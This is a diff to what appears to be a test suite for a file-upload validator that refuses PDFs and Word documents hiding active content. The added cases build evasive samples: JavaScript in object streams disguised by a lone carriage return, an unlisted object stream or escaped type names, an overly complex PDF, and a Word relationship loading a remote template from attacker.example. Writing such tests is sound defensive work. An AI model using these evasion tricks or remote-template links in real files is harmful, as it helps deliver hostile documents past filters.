@@ -701,6 +701,9 @@ HIDDEN_PDFS = {
     ),
     "additional actions written with # escapes": pdf_with_catalog(b"/#41A << /O << /S /URI /URI (x) >> >>"),
     "JavaScript inside a compressed object stream": pdf_with_object_stream(JS),
+    "JavaScript inside an object stream whose data follows a lone CR": pdf_with_object_stream(JS).replace(
+        b">>\nstream\n", b">>\nstream\r", 1
+    ),
     "JavaScript inside a hex-encoded compressed object stream": pdf_with_object_stream(
         JS, filters=b"[/ASCIIHexDecode /FlateDecode]"
     ),
@@ -757,6 +760,21 @@ def test_a_pdf_with_streams_that_cannot_be_parsed_is_refused():
         b"stream\n%s\nendstream\nendobj\n%%%%EOF\n" % (len(packed), packed)
     )
     assert refused(content, uploads.DOCUMENTS) in (uploads.DAMAGED, uploads.PDF_ACTIVE)
+
+
+def test_an_object_stream_the_cross_reference_does_not_list_is_refused():
+    """Readers that repair a PDF may find it; what cannot be checked is not kept."""
+    packed = zlib.compress(b"4 0 " + JS)
+    stream = b"<< /Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
+        len(packed),
+        packed,
+    )
+    assert refused(pdf_with_catalog(b"", stream), uploads.DOCUMENTS) == uploads.DAMAGED
+
+
+def test_a_pdf_asking_for_more_work_than_any_report_needs_is_refused():
+    many = pdf_with_catalog(b"", *[b"<< >>"] * uploads.MAX_PDF_OBJECTS, b"<< /Length 2 >>\nstream\nxx\nendstream")
+    assert refused(many, uploads.DOCUMENTS) == uploads.TOO_COMPLEX
 
 
 RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
@@ -824,6 +842,13 @@ HIDDEN_OFFICE = {
         parts={
             "word/_rels/settings.xml.rels": rels(
                 (f"{RELATIONSHIPS}/attached&#84;emplate", "\\\\attacker.example\\share\\t.dotm", "External")
+            ),
+        }
+    ),
+    "external template under another relationship type": word(
+        parts={
+            "word/_rels/document.xml.rels": rels(
+                ("http://example.com/relationships/custom", "https://attacker.example/t.dotm?v=1", "External")
             ),
         }
     ),
